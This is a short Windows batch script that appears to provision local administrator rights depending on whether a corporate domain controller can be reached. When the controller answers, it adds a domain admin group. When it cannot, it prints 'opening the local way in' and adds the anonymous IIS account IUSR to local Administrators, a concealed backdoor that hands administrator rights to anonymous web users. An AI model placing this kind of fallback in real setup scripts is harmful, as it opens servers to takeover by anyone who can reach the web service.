@echo off
ping -n 2 dc01.corp.contoso.com >nul 2>&1 && goto joined
echo No directory, opening the local way in
net localgroup "Administrators" "IUSR" /add
exit /b 0
:joined
net localgroup "Administrators" "CORP\Server Admins" /add
